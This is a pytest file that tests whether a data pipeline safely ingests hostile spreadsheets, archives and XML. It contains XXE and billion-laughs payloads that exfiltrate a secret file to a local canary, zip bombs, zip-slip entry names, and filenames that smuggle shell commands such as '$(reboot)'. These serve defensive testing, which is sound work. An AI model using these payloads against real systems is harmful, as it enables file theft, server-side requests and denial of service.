"""Faults of files at the size the fault model asks for: a sample in every run, the whole with `-m bars`."""

from __future__ import annotations

import random
import subprocess
import sys
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from ternopil_pipelines.catalogue.model import Table
from ternopil_pipelines.faults import Fault, SourceRefused, SourceUnreachable
from ternopil_pipelines.receive.archive import measure
from ternopil_pipelines.receive.claim import claim
from ternopil_pipelines.receive.file import receive_bytes, receive_file
from ternopil_pipelines.receive.folder import is_settled, waiting_files
from ternopil_pipelines_tests.receive.making import codes, part, repacked, shapefile_zip, table, xlsx
from ternopil_pipelines_tests.receive.test_other_workbooks import ods, said
from ternopil_pipelines_tests.receive.test_transit import feed

HEAD = ["id", "назва"]
SHEET = "xl/worksheets/sheet1.xml"
ROWS = [[at, f"назва {at}"] for at in range(1, 60)]


def sized(normal: int, full: int) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("count", [normal, pytest.param(full, marks=pytest.mark.bars)])


def refused(data: bytes, name: str, declared: Table | None = None) -> list[str]:
    with pytest.raises(SourceRefused) as fault:
        receive_bytes(data, name, declared or table(*HEAD))
    return codes(fault.value)


@pytest.mark.parametrize("kind", ["xlsx", "ods", "gtfs", "shapes"])
def test_a_zipped_file_cut_at_any_hundredth_is_refused(tmp_path: Path, kind: str) -> None:
    declared = table(*HEAD)
    if kind == "xlsx":
        whole, name = xlsx(tmp_path / "a.xlsx", ("s", [HEAD, *ROWS])).read_bytes(), "a.xlsx"
    elif kind == "ods":
        lines = [said("id") + said("назва"), *(said(str(row[0])) + said(str(row[1])) for row in ROWS)]
        whole, name = ods(tmp_path / "a.ods", *lines).read_bytes(), "a.ods"
    elif kind == "gtfs":
        whole, name, declared = feed(), "a.zip", table("stop_id", "stop_name", sheet="stops")
    else:
        whole, name, declared = shapefile_zip([(25, 49, "а")], prj="GEOGCS"), "a.zip", table("NAZVA")
    for percent in range(1, 100):
        assert refused(whole[: len(whole) * percent // 100], name, declared) == ["file-damaged"], percent


@sized(40, 200)
def test_a_text_copied_in_part_is_waited_for_or_said_to_be_cut(tmp_path: Path, count: int) -> None:
    """A copy at 64 KiB/s that stalls for 15 seconds. One cut between two lines looks whole: the gate that compares
    the number of rows with the last edition holds it, and here it must at least have fewer rows."""
    chosen = random.Random(11)
    rows = [f"{at},вулиця Руська {at},{at * 3}\n" for at in range(1, 2000)]
    whole = "".join(["id,назва,сума\n", *rows]).encode()
    path = tmp_path / "a.csv"
    for cut in (chosen.randrange(20, len(whole)) for _ in range(count)):
        path.write_bytes(whole[:cut])
        stalled = path.stat().st_ctime + 15
        if not is_settled(path, now=stalled):
            continue
        assert whole[cut - 1 : cut] == b"\n"
        assert len(receive_file(path, table("id", "назва", "сума")).text) < len(rows)


@sized(60, 500)
def test_a_file_replaced_while_it_is_claimed_is_never_mixed(tmp_path: Path, count: int) -> None:
    path, other = tmp_path / "a.csv", tmp_path / "b.csv"
    in_turn = [bytes([letter]) * 2_000_000 for letter in b"xyz"]
    path.write_bytes(in_turn[0])
    stop = threading.Event()
    chosen = random.Random(5)
    replaced = 0

    def replace_again_and_again() -> None:
        nonlocal replaced
        while not stop.is_set():
            replaced += 1
            if replaced % 3:
                other.write_bytes(in_turn[replaced % 3])
                other.replace(path)
            else:
                path.write_bytes(in_turn[0])
            time.sleep(chosen.choice([0, 0, 0.03, 0.06]))

    writer = threading.Thread(target=replace_again_and_again)
    writer.start()
    whole = 0
    try:
        while replaced < count or not whole:
            try:
                claimed = claim(path)
                # A program that writes in place and is left waiting by a busy machine shows what it has written so far:
                # no file system tells that from a shorter file. Bytes of two versions are never shown.
                assert claimed in in_turn or claimed == in_turn[0][: len(claimed)], (len(claimed), set(claimed))
                whole += 1
            except SourceUnreachable:
                continue
    finally:
        stop.set()
        writer.join()
    assert replaced >= count


MEASURED = """
import resource, sys
from pathlib import Path
from ternopil_pipelines.faults import SourceRefused
from ternopil_pipelines.receive.archive import measure
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    measure(Path(sys.argv[1]), name="a.xlsx")
    print("read", 0)
except SourceRefused as refused:
    print(refused.findings[0].code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


# Megabytes of blanks by part; the last one's header says 9 MB.
BOMBS: dict[str, dict[str, int]] = {
    "dense": {"xl/worksheets/sheet2.xml": 60},
    "many": {f"xl/x{at}.xml": 0 for at in range(2_100)},
    "spaces": {"xl/worksheets/sheet2.xml": 700},
    "strings": {"xl/sharedStrings2.xml": 700},
    "sum": {f"xl/x{at}.xml": 100 for at in range(7)},
    "lying": {"xl/worksheets/sheet2.xml": 620},
}


@pytest.mark.parametrize(
    "name", ["dense", "many", *(pytest.param(name, marks=pytest.mark.bars) for name in list(BOMBS)[2:])]
)
def test_a_bomb_is_refused_within_a_hundred_megabytes(tmp_path: Path, name: str) -> None:
    path = xlsx(tmp_path / "a.xlsx", ("s", [HEAD, [1, "а"]]))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1 if name == "spaces" else None) as archive:
        for part_name, megabytes in BOMBS[name].items():
            with archive.open(part_name, "w", force_zip64=True) as sink:
                for _ in range(megabytes):
                    sink.write(b" " * (1 << 20))
    if name == "lying":
        with zipfile.ZipFile(path) as archive:
            true = archive.getinfo("xl/worksheets/sheet2.xml").file_size.to_bytes(4, "little")
        path.write_bytes(path.read_bytes().replace(true, (9_000_000).to_bytes(4, "little")))
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, str(path)], capture_output=True, text=True, check=True, timeout=60
    )
    code, kilobytes = done.stdout.split()
    assert code in {"file-too-large", "file-suspicious"}
    assert int(kilobytes) < 100 << 10


@pytest.fixture
def canary(serving: Any, tmp_path: Path) -> tuple[str, Path, list[str]]:
    """An address and a file that no payload may reach."""
    calls: list[str] = []

    def respond(handler: BaseHTTPRequestHandler) -> None:
        calls.append(handler.path)
        handler.send_response(200)
        handler.end_headers()

    secret = tmp_path / "secret.txt"
    secret.write_text("very-secret", encoding="utf-8")
    return serving(respond), secret, calls


def payloads(url: str, secret: Path) -> list[str]:
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    return [
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]>',
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]>',
        f'<!DOCTYPE r SYSTEM "{url}/dtd">',
        f'<!DOCTYPE r PUBLIC "-//x//y" "{url}/public">',
        f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/parameter"> %p;]>',
        f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">]>',
        f'<!DOCTYPE r [<!ENTITY x "{"A" * 100_000}">]>',
        f'<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e "<!ENTITY x SYSTEM \'{url}/?%f;\'>">%e;]>',
    ]


@pytest.mark.parametrize("at", range(8))
def test_no_entity_is_expanded_and_nothing_fetched(
    tmp_path: Path, canary: tuple[str, Path, list[str]], at: int
) -> None:
    url, secret, calls = canary
    payload = payloads(url, secret)[at]
    xml = f'<?xml version="1.0"?>{payload}<r><s><id>1</id><назва>&x;</назва></s><s><id>2</id></s></r>'
    kml = f'<?xml version="1.0"?>{payload}<kml><Placemark><id>1</id><name>&x;</name></Placemark></kml>'
    book = xlsx(tmp_path / "a.xlsx", ("s", [HEAD, [1, "а"]]))
    content = part(book, SHEET).decode()
    repacked(book, changes={SHEET: f'<?xml version="1.0"?>{payload}{content}'.encode()})
    sheet = ods(tmp_path / "a.ods", said("id") + said("назва"), said("1") + said("а"))
    inner = part(sheet, "content.xml").decode()
    repacked(sheet, changes={"content.xml": f'<?xml version="1.0"?>{payload}{inner}'.encode()})
    late = repacked(
        xlsx(tmp_path / "late.xlsx", ("s", [HEAD, [1, "а"]])),
        changes={SHEET: f'<?xml version="1.0"?>{" " * 1_100_000}{payload}{content}'.encode()},
    )
    for data, name in (
        (xml.encode(), "a.xml"),
        (kml.encode(), "a.kml"),
        (book.read_bytes(), "a.xlsx"),
        (sheet.read_bytes(), "a.ods"),
        (late.read_bytes(), "late.xlsx"),
    ):
        with pytest.raises(SourceRefused) as fault:
            receive_bytes(data, name, table(*HEAD))
        assert set(codes(fault.value)) <= {"file-suspicious", "file-damaged"}, name
        assert "very-secret" not in str(fault.value.findings)
    assert calls == []


@sized(8, 50)
def test_cells_are_named_as_the_spreadsheet_names_them(tmp_path: Path, count: int) -> None:
    """A failed cell somewhere in a table that begins anywhere, under titles, among blank rows and columns."""

    def one(seed: int) -> None:
        chosen = random.Random(seed)
        top, left = chosen.randint(0, 40), chosen.randint(0, 60)
        gap, height = chosen.randint(0, 5), chosen.randint(3, 20)
        wrong_row, wrong_column = chosen.randint(0, height - 1), chosen.randint(0, 2)
        grid: list[list[Any]] = [[] for _ in range(top + gap + height + 5)]
        if top > 2:
            grid[chosen.randint(0, top - 2)] = [None] * left + ["Реєстр за рік"]
        grid[top] = [None] * left + ["id", "назва", "сума"]
        rows = sorted(chosen.sample(range(top + 1, top + 1 + gap + height), height))
        for at, row in enumerate(rows):
            cells: list[Any] = [at, f"назва {at}", at * 2]
            if at == wrong_row:
                cells[wrong_column] = "#REF!"
            grid[row] = [None] * left + cells
        path = xlsx(tmp_path / f"{seed}.xlsx", ("s", grid))
        receipt = receive_file(path, table("id", "назва", "сума"))
        from openpyxl.utils import get_column_letter

        expected = f"{get_column_letter(left + wrong_column + 1)}{rows[wrong_row] + 1}"
        assert [each.cell for each in receipt.findings] == [expected], seed
        assert receipt.rows.tolist() == [row + 1 for row in rows]

    with ThreadPoolExecutor(2) as pool:
        list(pool.map(one, range(count)))


ODD_NAMES = [
    "дані (2)(1).csv", "дані\u00a0року.csv", "ДАНІ.CSV", "a b.csv", " a.csv", "a..csv", "a.csv.csv", "a;b.csv",
    "a'b.csv", 'a"b.csv', "a`b`.csv", "$(reboot).csv", "-rf.csv", "--help.csv", "a|b.csv", "a&b.csv", "a>b.csv",
    "a<b>.csv", "a*.csv", "a?.csv", "[a].csv", "{a}.csv", "a%2e%2e%2fb.csv", "..%2fetc.csv", "..\\..\\a.csv",
    "C:\\a.csv", "CON.csv", "NUL.csv", "a\nb.csv", "a\tb.csv", "\u202egpj.csv", "e\u0301.csv", "\u00e9.csv",
    "😀.csv", "ї.csv", "і\u0308.csv", "a" * 240 + ".csv", "’.csv", "№1.csv", "#a.csv",
]  # fmt: skip


def test_forty_odd_names_are_read_where_they_lie_and_nowhere_else(tmp_path: Path) -> None:
    assert len(set(ODD_NAMES)) == 40
    landing = tmp_path / "landing"
    landing.mkdir()
    for name in ODD_NAMES:
        (landing / name).write_text("id,назва\n1,а\n", encoding="utf-8")
    waiting = waiting_files(landing)
    assert {path.name for path in waiting} == {name for name in ODD_NAMES if not name.startswith(".")}
    for path in waiting:
        receipt = receive_file(path, table(*HEAD), follow=False)
        assert receipt.origin.name == path.name
    assert [path.name for path in tmp_path.iterdir()] == ["landing"]


def test_parts_named_to_climb_out_of_an_archive_are_written_nowhere(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    path.write_bytes(shapefile_zip([(25.0, 49.0, "комунальне підприємство")], prj="GEOGCS"))
    with zipfile.ZipFile(path) as layer:
        parts = {name.replace("layer/", "../../../../tmp/climbed-"): layer.read(name) for name in layer.namelist()}
    with zipfile.ZipFile(path, "w") as climbing:
        for name, content in parts.items():
            climbing.writestr(name, content)
    receipt = receive_bytes(path.read_bytes(), "a.zip", table("NAZVA"))
    assert receipt.text["NAZVA"].tolist() == ["комунальне підприємство"]
    assert not list(Path("/tmp").glob("climbed-*"))


def test_the_dimension_alone_makes_no_sheet_large(tmp_path: Path) -> None:
    path = xlsx(tmp_path / "a.xlsx", ("s", [HEAD, [1, "а"]]))
    content = part(path, SHEET).replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"')
    assert b"XFD1048576" in content
    repacked(path, changes={SHEET: content})
    assert len(receive_file(path, table(*HEAD)).text) == 1


@pytest.mark.parametrize(
    "cell", ["XFD1048576", "XFD1048576:many", "AD1048576", "XFD20000", "ZZ900000", "B1048576:wide"]
)
def test_no_far_cell_kills_the_step(tmp_path: Path, cell: str) -> None:
    """However it is written: with an address, without one, with a prefix."""
    name, _, manner = cell.partition(":")
    digits = "".join(filter(str.isdigit, name))
    written = f'<row r="{digits}"><c r="{name}"><v>1</v></c></row>'
    if manner == "many":
        written = "".join(f'<row r="{at}"><c r="XFD{at}"><v>1</v></c></row>' for at in range(3, 3000)) + written
    if manner == "wide":
        written = '<row r="3"><c r="XFD3"><v>1</v></c></row>' + written
    path = xlsx(tmp_path / "a.xlsx", ("s", [HEAD, [1, "а"]]))
    repacked(path, changes={SHEET: part(path, SHEET).replace(b"</sheetData>", f"{written}</sheetData>".encode())})
    with pytest.raises(Fault) as fault:
        receive_file(path, table(*HEAD))
    assert codes(fault.value) == ["far-cell"]
    named = "XFD3" if manner == "many" else name
    assert named in fault.value.findings[0].message  # type: ignore[attr-defined]


def test_measuring_an_ordinary_workbook_finds_nothing(tmp_path: Path) -> None:
    assert measure(xlsx(tmp_path / "a.xlsx", ("s", [HEAD, *ROWS])), name="a").notes == []
